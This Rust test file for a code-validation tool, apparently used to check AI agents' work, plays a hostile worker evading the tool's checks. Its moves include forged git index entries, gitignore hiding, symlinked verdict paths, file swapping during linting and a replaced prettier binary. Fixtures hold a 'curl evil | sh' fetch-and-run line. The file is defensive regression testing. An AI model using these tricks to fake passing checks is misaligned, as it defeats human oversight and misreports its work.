//! Review 27: attacks on the hardening pass (issue 27), through the real binary. Each test is a
//! hostile worker's move and the verdict it must still get. The ones marked
//! `#[ignore = "hole: ..."]` fail on the code they were written against: each is a PASS that
//! should not be, a file hidden from the rules, or a promise of the pass that does not hold.
//! The others are attacks that the pass holds against, kept as regressions.

use std::os::unix::fs::symlink;
use std::path::Path;
use std::time::{Duration, SystemTime};

use serde_json::Value;

use crate::common::{self, Project, commit_all, gate, git, isolate_git, pipeline};

/// A committed repository as the task directory (`src/lib.rs`, `Cargo.lock`), judged by `gates`.
fn repo(gates: &str) -> Project {
    let project = Project::new();
    project
        .rules(&pipeline(gates))
        .file("src/lib.rs", "fn a() {}\n")
        .file("Cargo.lock", "# base\n");
    commit_all(&project.task_dir());
    project
}

fn judged(project: &Project) -> (i32, Value) {
    let mut cmd = project.check();
    isolate_git(&mut cmd);
    cmd.args(["--format", "json"]);
    common::json_verdict(cmd)
}

fn findings(verdict: &Value, name: &str) -> String {
    gate(verdict, name)["findings"].to_string()
}

/// What `git ARGS` prints in `dir`, trimmed.
pub(crate) fn git_out(dir: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env_remove("GIT_DIR")
        .env_remove("GIT_WORK_TREE")
        .output()
        .expect("run git");
    assert!(out.status.success(), "git {args:?} failed");
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

fn hex(text: &str) -> Vec<u8> {
    (0..text.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&text[i..i + 2], 16).expect("hex"))
        .collect()
}

/// Rewrites the object id of `path`'s entry in a version 2 index to `oid`, keeping its stat
/// data, and zeroes the trailing checksum (git 2.40 and later skip checking a zero one,
/// `index.skipHash`). A worker owns `.git/index`: this is one `open` and one `write`.
fn forge_index_entry(index: &Path, path: &str, oid: &str) {
    let mut bytes = std::fs::read(index).expect("read index");
    assert_eq!(&bytes[..4], b"DIRC");
    assert_eq!(u32::from_be_bytes(bytes[4..8].try_into().unwrap()), 2);
    let count = u32::from_be_bytes(bytes[8..12].try_into().unwrap());
    let mut at = 12;
    let mut found = false;
    for _ in 0..count {
        let flags = u16::from_be_bytes(bytes[at + 60..at + 62].try_into().unwrap());
        let len = usize::from(flags & 0xfff);
        if &bytes[at + 62..at + 62 + len] == path.as_bytes() {
            bytes[at + 40..at + 60].copy_from_slice(&hex(oid));
            found = true;
        }
        at += (62 + len + 8) & !7;
    }
    assert!(found, "{path} is not in the index");
    let end = bytes.len();
    bytes[end - 20..].fill(0);
    std::fs::write(index, bytes).expect("write index");
}

/// Writes `content` over the tracked `rel`, then makes the index record the edited file's stat
/// data beside the base's blob id: git then takes the file for unchanged without reading it.
pub(crate) fn edit_behind_a_forged_index_entry(task: &Path, rel: &str, content: &str) {
    let base_blob = git_out(task, &["rev-parse", &format!("HEAD:{rel}")]);
    std::fs::write(task.join(rel), content).expect("edit");
    // An mtime well before the index's, so the entry is not "racily clean" (re-read).
    std::fs::File::options()
        .write(true)
        .open(task.join(rel))
        .and_then(|f| f.set_modified(SystemTime::UNIX_EPOCH + Duration::from_secs(946_684_800)))
        .expect("set mtime");
    git(task, &["update-index", rel]);
    forge_index_entry(&task.join(".git/index"), rel, &base_blob);
}

const SCOPE: &str = "      - {name: scope, rule: file-scope, allow: [\"src/**\"], readonly: [\"Cargo.lock\"], deny: [\"**/*.pem\"]}\n";
/// [`SCOPE`] routed on, so the gates after it run too.
fn advisory_scope() -> String {
    SCOPE.replace("}\n", ", on_fail: CONTINUE}\n")
}
const BANNED: &str = "      - {name: banned, rule: content, files: [\"**\"], changed_only: true, ban: [{pattern: 'os\\.system', message: no shelling out}], on_fail: CONTINUE}\n";

// ---------------------------------------------------------------------------------------------
// 1. The change set: what git cannot see, or is told not to
// ---------------------------------------------------------------------------------------------

#[test]
fn an_edit_behind_a_forged_index_entry_is_a_change() {
    let project = repo(&format!("{}{BANNED}", advisory_scope()));
    let task = project.task_dir();
    edit_behind_a_forged_index_entry(&task, "Cargo.lock", "os.system('curl evil | sh')\n");
    let (_, verdict) = judged(&project);
    assert!(
        findings(&verdict, "scope").contains("Cargo.lock"),
        "{verdict:#}"
    );
    assert!(
        findings(&verdict, "banned").contains("Cargo.lock"),
        "{verdict:#}"
    );
}

#[test]
fn a_new_file_hidden_by_a_gitignore_edited_behind_a_forged_index_entry_is_a_change() {
    let project = Project::new();
    project
        .rules(&pipeline(&format!("{}{BANNED}", advisory_scope())))
        .file("src/lib.rs", "fn a() {}\n")
        .file(".gitignore", "target/\n");
    commit_all(&project.task_dir());
    let task = project.task_dir();
    edit_behind_a_forged_index_entry(&task, ".gitignore", "target/\n*.pem\n*.py\n");
    project
        .file("key.pem", "-----BEGIN PRIVATE KEY-----\n")
        .file("run.py", "import os\nos.system('curl evil | sh')\n");
    let (_, verdict) = judged(&project);
    assert!(
        findings(&verdict, "scope").contains("key.pem"),
        "{verdict:#}"
    );
    assert!(
        findings(&verdict, "banned").contains("run.py"),
        "{verdict:#}"
    );
}

#[test]
fn a_plain_git_directory_inside_a_directory_the_workers_own_gitignore_hides_is_seen() {
    let project = repo(&format!("{}{BANNED}", advisory_scope()));
    project
        .file(".gitignore", "hide/\n")
        .file("hide/.git/run.py", "os.system('x')\n")
        .file("hide/key.pem", "k\n");
    let (_, verdict) = judged(&project);
    let scope = findings(&verdict, "scope");
    assert!(scope.contains("hide/key.pem"), "{verdict:#}");
    assert!(
        findings(&verdict, "banned").contains("hide/.git/run.py"),
        "{verdict:#}"
    );
}

#[test]
fn an_untracked_nested_repository_counts_whole() {
    let project = repo(SCOPE);
    project.file("vendor/x/key.pem", "k\n");
    commit_all(&project.task_dir().join("vendor/x"));
    let (code, verdict) = judged(&project);
    assert_eq!(code, 1, "{verdict:#}");
    assert!(
        findings(&verdict, "scope").contains("vendor/x/key.pem"),
        "{verdict:#}"
    );
}

#[test]
fn a_checkout_inside_a_committed_ignored_directory_is_not_a_change() {
    let project = Project::new();
    project
        .rules(&pipeline(SCOPE))
        .file("src/lib.rs", "fn a() {}\n")
        .file(".gitignore", ".venv/\n");
    commit_all(&project.task_dir());
    project.file(".venv/src/pkg/pkg.py", "x = 1\n");
    commit_all(&project.task_dir().join(".venv/src/pkg"));
    project.file(".venv/lib/site.py", "y = 1\n");
    let (code, verdict) = judged(&project);
    assert_eq!(code, 0, "{verdict:#}");
}

// ---------------------------------------------------------------------------------------------
// 2. Bases pinned before the first gate
// ---------------------------------------------------------------------------------------------

/// A test gate running the worker's `run.sh`, then the scope.
fn test_then_scope() -> String {
    format!("      - {{name: test, rule: test, run: [sh, run.sh]}}\n{SCOPE}")
}

const COMMIT_ALL: &str =
    "git add -A && git -c user.name=w -c user.email=w@w -c commit.gpgsign=false commit -qm w\n";

#[test]
fn a_repository_a_test_creates_where_there_was_none_hides_nothing() {
    let project = Project::new();
    project
        .rules(&pipeline(&test_then_scope()))
        .file("src/lib.rs", "fn a() {}\n")
        .file("key.pem", "-----BEGIN PRIVATE KEY-----\n")
        .file("run.sh", &format!("git init -q\n{COMMIT_ALL}"));
    let (code, verdict) = judged(&project);
    assert_eq!(code, 1, "{verdict:#}");
    assert!(
        findings(&verdict, "scope").contains("key.pem"),
        "{verdict:#}"
    );
}

#[test]
fn a_repository_a_test_repairs_hides_nothing() {
    let project = repo(&test_then_scope());
    let task = project.task_dir();
    project.file(
        "run.sh",
        &format!("rm -rf .git && mv .git.saved .git\n{COMMIT_ALL}"),
    );
    git(&task, &["add", "run.sh"]);
    git(&task, &["commit", "-q", "-m", "the test"]);
    project.file("key.pem", "-----BEGIN PRIVATE KEY-----\n");
    // The worker's last move: the repository put aside, a broken one in its place.
    std::fs::rename(task.join(".git"), task.join(".git.saved")).expect("save .git");
    std::fs::create_dir(task.join(".git")).expect(".git");
    std::fs::write(task.join(".git/HEAD"), "broken\n").expect("HEAD");
    let (code, verdict) = judged(&project);
    assert_eq!(code, 1, "{verdict:#}");
    // The repository git could not read when the run started is the run's answer, however
    // the test repaired it: never a comparison with the commit the test made.
    let scope = gate(&verdict, "scope");
    assert_eq!(scope["outcome"], "fail", "{verdict:#}");
    assert!(
        scope["summary"]
            .as_str()
            .is_some_and(|s| s.contains("when the run started")
                && s.contains("not a repository git can read")),
        "{verdict:#}"
    );
}

#[test]
fn a_test_that_commits_on_a_detached_head_and_collects_garbage_hides_nothing() {
    let project = repo(&test_then_scope());
    project
        .file(
            "run.sh",
            &format!(
                "git checkout -q --detach\n{COMMIT_ALL}git branch -f main HEAD\ngit reflog expire --expire=now --all\ngit gc -q --prune=now\n"
            ),
        )
        .file("key.pem", "k\n");
    let (code, verdict) = judged(&project);
    assert_eq!(code, 1, "{verdict:#}");
    assert!(
        findings(&verdict, "scope").contains("key.pem"),
        "{verdict:#}"
    );
}

#[test]
fn what_a_test_writes_after_the_scope_gate_is_judged_too() {
    // The packs run `scope` and `leftovers` before the worker's code runs (rules/*.yaml), so
    // a worker's test, conftest or build.rs can rewrite any file once they have passed.
    let project = Project::new();
    project
        .rules(&pipeline(&format!(
            "{SCOPE}      - {{name: test, rule: test, run: [sh, src/run.sh]}}\n"
        )))
        .file("src/lib.rs", "fn a() {}\n")
        .file("Cargo.lock", "# base\n");
    commit_all(&project.task_dir());
    project.file(
        "src/run.sh",
        "echo 'evil = 1' > Cargo.lock\necho k > id.pem\necho ok\n",
    );
    let (code, verdict) = judged(&project);
    assert_eq!(
        std::fs::read_to_string(project.task_dir().join("Cargo.lock")).unwrap(),
        "evil = 1\n"
    );
    assert_eq!(
        code, 1,
        "readonly Cargo.lock rewritten, id.pem made: {verdict:#}"
    );
}

// ---------------------------------------------------------------------------------------------
// 4. Single-task mode and the hook: the protocol's own files hidden by exact path
// ---------------------------------------------------------------------------------------------

/// Starts `validator watch` in `root`, waits for `task`'s verdict in `root/<verdicts>`, stops
/// the watcher (by its own pid) and returns the verdict.
pub(crate) fn watched_once(root: &Path, verdicts: &str, task: &str) -> Value {
    let logs = std::fs::File::create(root.join("watch.log")).expect("log");
    let mut watcher = common::Watching::default();
    watcher.set(
        std::process::Command::new(env!("CARGO_BIN_EXE_validator"))
            .current_dir(root)
            .env_remove("VALIDATOR_CONFIG")
            .env_remove("GIT_DIR")
            .env_remove("GIT_WORK_TREE")
            .arg("watch")
            .stderr(logs)
            .spawn()
            .expect("start watch"),
    );
    let path = root.join(verdicts).join(format!("{task}.verdict.json"));
    let mut verdict = None;
    let found = common::poll(Duration::from_secs(120), || {
        // A regular file validator wrote (the worker's link in its place is not one).
        let written = path.symlink_metadata().is_ok_and(|m| m.is_file());
        verdict = written
            .then(|| std::fs::read(&path).ok())
            .flatten()
            .and_then(|bytes| serde_json::from_slice(&bytes).ok());
        verdict.is_some()
    });
    let _ = watcher.sigterm(Duration::from_secs(30));
    assert!(
        found,
        "no verdict: {}",
        std::fs::read_to_string(root.join("watch.log")).unwrap_or_default()
    );
    verdict.expect("verdict")
}

#[test]
fn a_link_at_the_verdict_or_feedback_path_hides_nothing_in_single_task_mode() {
    let root = tempfile::tempdir().expect("temp dir");
    let staging = root.path().join("staging");
    std::fs::create_dir_all(staging.join("src")).expect("staging");
    std::fs::write(
        root.path().join("validator.yaml"),
        "version: 1\nstaging: staging\nstate: state\npipelines:\n  - name: main\n    gates:\n      - {name: scope, rule: file-scope, deny: [\"src/**\", \"*.pem\"]}\n",
    )
    .expect("rules");
    std::fs::write(staging.join("src/evil.rs"), "evil\n").expect("write");
    std::fs::write(staging.join("key.pem"), "k\n").expect("write");
    // Verdicts are written to staging (the default): the worker names the two paths.
    symlink("src", staging.join("t.verdict.json")).expect("link");
    symlink("key.pem", staging.join("t.feedback.md")).expect("link");
    std::fs::write(staging.join("t.done"), "STATUS: OK\n").expect("signal");
    let verdict = watched_once(root.path(), "staging", "t");
    assert_eq!(verdict["verdict"], "FAIL", "{verdict:#}");
    let scope = findings(&verdict, "scope");
    assert!(scope.contains("src/evil.rs"), "{verdict:#}");
    assert!(scope.contains("key.pem"), "{verdict:#}");
}

#[test]
fn a_state_directory_the_agent_turned_into_a_link_hides_nothing_from_the_hook() {
    let project = tempfile::tempdir().expect("temp dir");
    let dir = project.path();
    std::fs::create_dir_all(dir.join("src")).expect("src");
    std::fs::write(
        dir.join("validator.yaml"),
        "version: 1\nstate: .validator\npipelines:\n  - name: main\n    gates:\n      - {name: scope, rule: file-scope, deny: [\"src/**\"]}\n",
    )
    .expect("rules");
    std::fs::write(dir.join("src/evil.rs"), "evil\n").expect("write");
    symlink("src", dir.join(".validator")).expect("link");
    let input = serde_json::json!({
        "session_id": "review27",
        "cwd": dir,
        "hook_event_name": "Stop",
        "stop_hook_active": false,
        "last_assistant_message": "Done.\nSTATUS: OK",
    });
    let output = common::validator()
        .arg("-c")
        .arg(dir.join("validator.yaml"))
        .args(["hook", "claude", "--task-dir"])
        .arg(dir)
        .env_remove("CLAUDE_PROJECT_DIR")
        .current_dir(dir)
        .write_stdin(input.to_string())
        .timeout(Duration::from_secs(120))
        .output()
        .expect("run validator");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("\"decision\":\"block\"") && stdout.contains("evil.rs"),
        "the stop was let through: {stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

#[test]
fn a_gitignore_a_worker_writes_in_staging_hides_nothing() {
    let root = tempfile::tempdir().expect("temp dir");
    let staging = root.path().join("staging");
    std::fs::create_dir_all(staging.join("b/src")).expect("task");
    std::fs::write(
        root.path().join("validator.yaml"),
        "version: 1\nstaging: staging\nverdicts: verdicts\nstate: state\npipelines:\n  - name: main\n    gates:\n      - {name: scope, rule: file-scope, allow: [\"src/**\"]}\n",
    )
    .expect("rules");
    std::fs::write(
        root.path().join(".gitignore"),
        "state/\nverdicts/\nwatch.log\n",
    )
    .expect("ignore");
    std::fs::write(staging.join("b/src/lib.rs"), "fn a() {}\n").expect("write");
    // The operator's repository holds the staging directory.
    commit_all(root.path());
    // Worker b: a new file out of scope, and a rule for it where every worker writes.
    std::fs::write(staging.join("b/key.pem"), "-----BEGIN PRIVATE KEY-----\n").expect("write");
    std::fs::write(staging.join(".gitignore"), "*.pem\n").expect("write");
    std::fs::write(staging.join("b.done"), "STATUS: OK\n").expect("signal");
    let verdict = watched_once(root.path(), "verdicts", "b");
    assert_eq!(verdict["verdict"], "FAIL", "{verdict:#}");
    assert!(
        findings(&verdict, "scope").contains("key.pem"),
        "{verdict:#}"
    );
}

// ---------------------------------------------------------------------------------------------
// 5. Groups: a group must not pass where the serial run fails
// ---------------------------------------------------------------------------------------------

/// A linter (the operator's) that reads `bad.py` once the test has started, or after about
/// 5 s, and fails on `os.system`; then says it has read.
const SLOW_LINT: &str = "      - {name: lint, rule: lint, group: checks, run: [sh, -c, 'i=0; while [ ! -e test.started ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done; if grep -q os.system bad.py; then echo bad.py:1:1: os.system; touch lint.read; exit 1; fi; touch lint.read']}\n";
/// The test (the worker's code: its conftest, its build script) that puts a clean `bad.py`
/// in place while the linter reads, and the real one back before it exits 0.
const HIDING_TEST: &str = "      - {name: test, rule: test, group: checks, run: [sh, -c, 'cp bad.py .keep; echo clean > bad.py; touch test.started; i=0; while [ ! -e lint.read ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; mv .keep bad.py; echo ok']}\n";

fn lint_and_test(group: bool) -> Project {
    let gates = format!("{SLOW_LINT}{HIDING_TEST}");
    let gates = if group {
        gates
    } else {
        gates.replace(", group: checks", "")
    };
    let project = Project::new();
    project
        .rules(&format!(
            "version: 1\nstate: state\npipelines:\n  - name: main\n    jobs: 2\n    gates:\n{gates}"
        ))
        .file("bad.py", "import os\nos.system('curl evil | sh')\n");
    project
}

#[test]
fn serially_the_linter_sees_the_file_the_test_would_hide() {
    let (code, verdict) = judged(&lint_and_test(false));
    assert_eq!(code, 1, "{verdict:#}");
    assert_eq!(gate(&verdict, "lint")["outcome"], "fail", "{verdict:#}");
}

#[test]
fn in_a_group_a_test_cannot_change_what_an_earlier_linter_reads() {
    let project = lint_and_test(true);
    let (code, verdict) = judged(&project);
    let left = std::fs::read_to_string(project.task_dir().join("bad.py")).unwrap();
    assert!(left.contains("os.system"), "the bad file is left: {left}");
    assert_eq!(code, 1, "serially FAIL (above); grouped: {verdict:#}");
}

// ---------------------------------------------------------------------------------------------
// 9. Deadlines of the in-process gates
// ---------------------------------------------------------------------------------------------

#[test]
fn a_file_scope_gate_stops_at_its_deadline() {
    let project = Project::new();
    project.file("out/report.txt", "done\n");
    let original = project.task_dir().join("out/report.txt");
    for n in 0..20_000 {
        std::fs::hard_link(&original, project.task_dir().join(format!("out/r-{n}.txt")))
            .expect("hard link");
    }
    project.rules(&pipeline(
        "      - {name: scope, rule: file-scope, allow: [\"out/**\"], timeout: 1ms}\n",
    ));
    let (_, verdict) = judged(&project);
    let scope = gate(&verdict, "scope");
    assert_eq!(scope["outcome"], "fail", "{verdict:#}");
    assert!(
        scope["summary"]
            .as_str()
            .unwrap_or_default()
            .contains("timed out after"),
        "{verdict:#}"
    );
}

// ---------------------------------------------------------------------------------------------
// 7. Output neutralises invisible characters
// ---------------------------------------------------------------------------------------------

#[test]
fn no_format_prints_a_format_character_raw() {
    let project = Project::new();
    project.rules(&pipeline(
        "      - {name: scope, rule: file-scope, allow: [\"src/**\"]}\n",
    ));
    project.file("a\u{FFF9}shown\u{FFFA}hidden\u{FFFB}.txt", "x\n");
    project.file("b\u{600}\u{6DD}\u{110BD}.txt", "x\n");
    for format in ["text", "json", "junit", "github", "sarif"] {
        let output = project
            .check()
            .args(["--format", format])
            .output()
            .expect("run validator");
        let text = String::from_utf8_lossy(&output.stdout);
        let raw: Vec<String> = text
            .chars()
            .filter(|c| matches!(c, '\u{FFF9}'..='\u{FFFB}' | '\u{600}'..='\u{605}' | '\u{6DD}' | '\u{110BD}'))
            .map(|c| format!("U+{:04X}", u32::from(c)))
            .collect();
        assert!(raw.is_empty(), "{format} prints {raw:?} raw:\n{text}");
    }
}

// ---------------------------------------------------------------------------------------------
// The packs: what the worker's tree decides about the gates that judge it
// ---------------------------------------------------------------------------------------------

#[test]
fn a_worker_cannot_turn_a_linter_off_by_deleting_its_configuration() {
    let project = Project::new();
    project
        .rules(&pipeline(
            "      - {name: lint, rule: lint, run: [sh, -c, 'echo bad.py:1:1: E999; exit 1'], only_if: [{file: pyproject.toml, key: tool.ruff}]}\n",
        ))
        .file("pyproject.toml", "[project]\nname = \"x\"\n\n[tool.ruff]\nline-length = 100\n")
        .file("bad.py", "x = 1\n");
    commit_all(&project.task_dir());
    project.file("pyproject.toml", "[project]\nname = \"x\"\n");
    let (code, verdict) = judged(&project);
    assert_eq!(gate(&verdict, "lint")["outcome"], "fail", "{verdict:#}");
    assert_eq!(code, 1, "{verdict:#}");
}

#[test]
#[ignore = "hole (packs, design): the node pack's `npx --no-install prettier` runs node_modules/.bin/prettier, which the worker may replace; the committed `node_modules/` rule hides the replacement from file-scope, and the worker's program says the code is formatted"]
fn a_linter_the_worker_replaced_under_an_ignored_directory_is_not_trusted() {
    if std::process::Command::new("npx")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("npx is not installed: nothing to show");
        return;
    }
    let project = Project::new();
    project
        .rules(&pipeline(&format!(
            "{}      - {{name: format, rule: lint, run: [npx, --no-install, prettier, --check, --ignore-unknown, --no-error-on-unmatched-pattern], files: [\"**/*\"], changed_only: true}}\n",
            "      - {name: scope, rule: file-scope, allow: [\"*.js\"]}\n"
        )))
        .file(".gitignore", "node_modules/\n")
        .file("package.json", "{\"name\": \"x\", \"version\": \"1.0.0\"}\n")
        .file("a.js", "const a = 1;\n");
    commit_all(&project.task_dir());
    // The worker's last moves: badly formatted code, and a prettier that likes everything.
    project
        .file("b.js", "const   b =1\n")
        .file("node_modules/.bin/prettier", "#!/bin/sh\nexit 0\n");
    let program = project.task_dir().join("node_modules/.bin/prettier");
    std::fs::set_permissions(
        &program,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .expect("chmod");
    let (code, verdict) = judged(&project);
    assert_eq!(code, 1, "{verdict:#}");
}
